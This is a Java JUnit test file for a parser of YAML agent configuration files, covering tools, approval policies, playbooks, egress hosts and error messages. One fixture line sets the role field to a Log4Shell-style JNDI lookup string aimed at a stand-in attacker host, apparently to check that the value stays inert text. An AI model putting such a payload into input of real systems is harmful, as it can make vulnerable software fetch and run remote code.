package dev.taskcraft.coworker.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import dev.taskcraft.coworker.BuiltInNames;
import dev.taskcraft.coworker.Coworker;
import dev.taskcraft.coworker.EgressHosts;
import dev.taskcraft.coworker.Input;
import dev.taskcraft.coworker.PlaybookStep;
import dev.taskcraft.coworker.Policies;
import dev.taskcraft.coworker.ToolSource;
import dev.taskcraft.coworker.ToolSource.Settings;
import dev.taskcraft.serde.CoworkerJson;
import dev.taskcraft.tool.Effect;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CoworkerFileTest {
  private static final String FULL =
      """
      name: Ops Analyst
      role: ${jndi:ldap://attacker.example/a}
      objective: >
        Report
        incidents.
      inputs:
        since: string
        limit: {type: integer, default: 5}
        ratio: {type: number, default: 2}
        note: {type: string, required: false}
      model: gemini-2.5-flash
      planner: gemini
      workspace: reports
      executor: local
      secrets: [SMTP_PASSWORD]
      tools:
        - read_file
        - name: run_shell
          timeout: 0.5
        - module: taskcraft.tools.definitions
          name: write_file
        - module: taskcraft.tools.fs_skills
          retries: 2
          tools:
            move_file: {effect: reconcilable}
        - module: incident_tools
          path: ./lib
          language: python
          effect: read
          timeout: 5m
          executor: docker
          tools:
            send_report: {effect: irreversible, retries: 0}
        - mcp:
            name: files
            command: npx
            args: ["-y", server]
            env: {TOKEN: "Bearer ${secret:SMTP_PASSWORD}"}
            tools: ["read_*"]
        - mcp: {name: web, url: "http://my_server:8080/@v1/mcp", headers: {X-Key: k}}
          effect: idempotent
      policies:
        approval_required: [send_report, "files.*"]
        max_actions: 12
        default: ask
        deny: [{tool: run_shell, reason: not here}]
        allow:
        - read_*
      playbook:
        - {id: found, tool: find_incidents, args: {since: "${inputs.since}", n: 3, deep: [1.5, null, true]}}
        - for_each: steps.found
          as: incident
          when: size(steps.found) > 0
          steps:
            - tool: send_report
              args:
              on_error: continue
        - answer: done
      """;

  @Test
  void readsEveryKeyOfTheFile() {
    Coworker coworker = parsed(FULL).coworker();
    assertThat(coworker.name()).isEqualTo("Ops Analyst");
    assertThat(coworker.role()).isEqualTo("${jndi:ldap://attacker.example/a}");
    assertThat(coworker.objective()).isEqualTo("Report incidents.\n");
    assertThat(coworker.inputs())
        .containsExactly(
            Map.entry("since", new Input(Input.Type.STRING, null, null, false)),
            Map.entry("limit", new Input(Input.Type.INTEGER, null, 5L, false)),
            Map.entry("ratio", new Input(Input.Type.NUMBER, null, 2.0, false)),
            Map.entry("note", new Input(Input.Type.STRING, null, null, true)));
    assertThat(coworker.planner()).isEqualTo("react");
    assertThat(coworker.executor()).isEqualTo("host");
    assertThat(coworker.workspace()).containsExactly("reports");
    assertThat(coworker.secrets()).containsExactly("SMTP_PASSWORD");
    assertThat(coworker.policies())
        .isEqualTo(
            new Policies(
                List.of("send_report", "files.*"),
                12,
                Policies.Verdict.ASK,
                List.of(new Policies.Rule("run_shell", "not here")),
                List.of(),
                List.of(new Policies.Rule("read_*", null))));
  }

  @ParameterizedTest
  @CsvSource({"90, PT1M30S", "0.5, PT0.5S", "2s, PT2S", "24h, PT24H", "3d, PT72H", "365d, PT8760H"})
  void readsHowLongAPersonMayTake(String written, Duration meant) {
    String text =
        "name: A\nobjective: b\ntools: [write_file]\n"
            + "policies: {ask: [{tool: write_file, expires: %s}]}".formatted(written);
    assertThat(parsed(text).coworker().policies().ask())
        .containsExactly(new Policies.Rule("write_file", null, meant));
  }

  @Test
  void readsToolsOfEveryKindAndTheModulesOf01AsBuiltIns() {
    Settings retried = new Settings(null, null, 2, null);
    assertThat(parsed(FULL).coworker().tools())
        .containsExactly(
            new ToolSource.BuiltIn("read_file", Settings.NONE),
            new ToolSource.BuiltIn(
                "run_shell", new Settings(null, Duration.ofMillis(500), null, null)),
            new ToolSource.BuiltIn("write_file", Settings.NONE),
            new ToolSource.BuiltIn("list_directory", retried),
            new ToolSource.BuiltIn("read_file_snippet", retried),
            new ToolSource.BuiltIn("move_file", new Settings(Effect.RECONCILABLE, null, 2, null)),
            new ToolSource.BuiltIn("append_to_summary", retried),
            new ToolSource.Module(
                "incident_tools",
                null,
                "./lib",
                ToolSource.Language.PYTHON,
                new Settings(Effect.READ, Duration.ofMinutes(5), null, "docker"),
                Map.of("send_report", new Settings(Effect.IRREVERSIBLE, null, 0, null))),
            new ToolSource.Mcp(
                "files",
                List.of("npx", "-y", "server"),
                null,
                Map.of("TOKEN", "Bearer ${secret:SMTP_PASSWORD}"),
                Map.of(),
                List.of("read_*"),
                Settings.NONE,
                Map.of()),
            new ToolSource.Mcp(
                "web",
                List.of(),
                "http://my_server:8080/@v1/mcp",
                Map.of(),
                Map.of("X-Key", "k"),
                List.of(),
                new Settings(Effect.IDEMPOTENT, null, null, null),
                Map.of()));
  }

  @Test
  void bothModulesOf01MeanEveryBuiltInToolByItsName() {
    for (String module : List.of("taskcraft.tools.fs_skills", "taskcraft.tools.definitions")) {
      for (String name : BuiltInNames.ALL) {
        String text =
            "name: A\nobjective: b\ntools: [{module: %s, name: %s}]".formatted(module, name);
        assertThat(parsed(text).coworker().tools())
            .containsExactly(new ToolSource.BuiltIn(name, Settings.NONE));
      }
    }
  }

  @Test
  void readsThePlaybookWithItsExpressionsAsTexts() {
    List<PlaybookStep> playbook = parsed(FULL).coworker().playbook();
    assertThat(playbook).hasSize(3);
    assertThat(playbook.get(0))
        .isInstanceOfSatisfying(
            PlaybookStep.CallTool.class,
            call -> {
              assertThat(call.id()).isEqualTo("found");
              assertThat(call.args())
                  .containsEntry("since", "${inputs.since}")
                  .containsEntry("n", 3L);
              assertThat(call.args()).containsEntry("deep", Arrays.asList(1.5, null, true));
            });
    assertThat(playbook.get(1))
        .isEqualTo(
            new PlaybookStep.ForEach(
                "size(steps.found) > 0",
                "steps.found",
                "incident",
                List.of(
                    new PlaybookStep.CallTool(
                        null, null, "send_report", Map.of(), PlaybookStep.OnError.CONTINUE))));
    assertThat(playbook.get(2)).isEqualTo(new PlaybookStep.Answer(null, "done"));
  }

  @Test
  void namesTheToolsThatAreMissingOnceTheModulesAreLoaded() {
    List<String> names = List.of("read_file", "run_shell", "find_incident", "send_report");
    assertThat(CoworkerFile.checkTools(parsed(FULL), names))
        .extracting(Problem::toString)
        .containsExactly(
            "test.yaml:43:36: approval_required names 'files.*', which no tool of the coworker"
                + " matches; correct it, or add the tool under tools:",
            "test.yaml:50:23: a playbook step names 'find_incidents', but the coworker has no such"
                + " tool; did you mean 'find_incident'?");
  }

  @Test
  void findsValuesAgainByTheirPath() {
    Positions positions = parsed(FULL).positions();
    assertThat(positions.at("playbook[1].when")).isEqualTo(new Position(53, 11));
    assertThat(positions.at("playbook[1].steps[0].args.none")).isEqualTo(new Position(56, 14));
    assertThat(positions.problem("name", "no").toString()).isEqualTo("test.yaml:1:7: no");
  }

  @Test
  void acceptsAliasesWithinReasonAndAByteOrderMark() {
    Coworker coworker =
        parsed(
                """
                \uFEFFname: A
                objective: &text Do it.
                description: *text
                """)
            .coworker();
    assertThat(coworker.description()).isEqualTo("Do it.");
  }

  @Test
  void anEmptyListOfRulesStillMakesTheDefaultAsk() {
    for (String key : List.of("allow", "ask", "deny")) {
      Policies policies =
          parsed("name: A\nobjective: b\npolicies: {max_actions: 5, " + key + ": []}\n")
              .coworker()
              .policies();
      assertThat(policies.fallback()).as(key).isEqualTo(Policies.Verdict.ASK);
      assertThat(policies.shortForm()).as(key).isFalse();
    }
    Policies both =
        parsed("name: A\nobjective: b\npolicies: {default: allow, deny: []}\n")
            .coworker()
            .policies();
    assertThat(both.fallback()).as("what the file says stands").isEqualTo(Policies.Verdict.ALLOW);
    assertThat(
            parsed("name: A\nobjective: b\npolicies: {approval_required: [], max_actions: 5}\n")
                .coworker()
                .policies()
                .shortForm())
        .isTrue();
  }

  @Test
  void findsTheEntryThatListsATool() {
    Positions positions = parsed(FULL).positions();
    assertThat(positions.entryOf("read_file")).isEqualTo("tools[0]");
    assertThat(positions.entryOf("run_shell")).isEqualTo("tools[1]");
    assertThat(positions.entryOf("incident_tools")).isEqualTo("tools[4]");
    assertThat(positions.entryOf("web")).isEqualTo("tools[6]");
    assertThat(positions.entryOf("nothing")).isEqualTo("tools");
  }

  @Test
  void warnsAboutAnAllowRuleForEverything() {
    assertThat(parsed("name: A\nobjective: b\npolicies: {allow: ['*']}\n").warnings())
        .extracting(Problem::toString)
        .containsExactly("test.yaml:3:20: allow '*' lets every listed tool run without asking");
  }

  @Test
  void readsCharactersBeyondTheBasicPlaneAtEveryPlaceOfALongFile() {
    for (int length = 0; length < 2_500; length++) {
      String comment = "# " + "x".repeat(length) + "\ud83d\ude00\ud83d\ude00\n";
      parsed(comment + "# more\n".repeat(200) + "name: A\nobjective: b\n");
    }
  }

  @Test
  void saysWhyAFileCannotBeRead(@TempDir Path folder) throws Exception {
    Path latin =
        Files.write(
            folder.resolve("latin.yaml"),
            "name: A\nrole: \u00e9".getBytes(StandardCharsets.ISO_8859_1));
    Path large = Files.writeString(folder.resolve("large.yaml"), "# x\n".repeat(1 << 20));
    assertThat(first(CoworkerFile.read(folder.resolve("none.yaml")))).contains("no such file");
    assertThat(first(CoworkerFile.read(folder))).contains("this is a folder");
    assertThat(first(CoworkerFile.read(latin))).contains("latin.yaml:2:7: ").contains("UTF-8");
    assertThat(first(CoworkerFile.read(large))).contains("longer than 256 KiB");
  }

  @Test
  void readsWhatToolsInContainersMayDo() {
    Coworker coworker =
        parsed(
                """
                name: x
                objective: y
                executor: docker
                tools:
                  - {name: run_shell, writes: workspace}
                policies:
                  egress: {hosts: [api.example.com, "*.example.org:8443"]}
                """)
            .coworker();

    assertThat(coworker.tools().getFirst().settings().writes())
        .isEqualTo(ToolSource.Writes.WORKSPACE);
    assertThat(coworker.policies().egress())
        .isEqualTo(new EgressHosts(List.of("api.example.com", "*.example.org:8443")));
    assertThat(coworker.policies().shortForm()).as("any other key makes it ask").isFalse();
    assertThat(CoworkerJson.read(CoworkerJson.write(coworker))).isEqualTo(coworker);
  }

  @Test
  void saysWhichHostIsNone() {
    assertThat(
            first(
                CoworkerFile.parse(
                    """
                    name: x
                    objective: y
                    policies:
                      egress: {hosts: ["https://a.example"]}
                    """,
                    "x.yaml")))
        .contains("x.yaml:4:20")
        .contains("https://a.example");
  }

  static Reading.Parsed parsed(String text) {
    Reading reading = CoworkerFile.parse(text, "test.yaml");
    assertThat(reading).isInstanceOf(Reading.Parsed.class);
    return (Reading.Parsed) reading;
  }

  private static String first(Reading reading) {
    return ((Reading.Refused) reading).problems().getFirst().toString();
  }
}
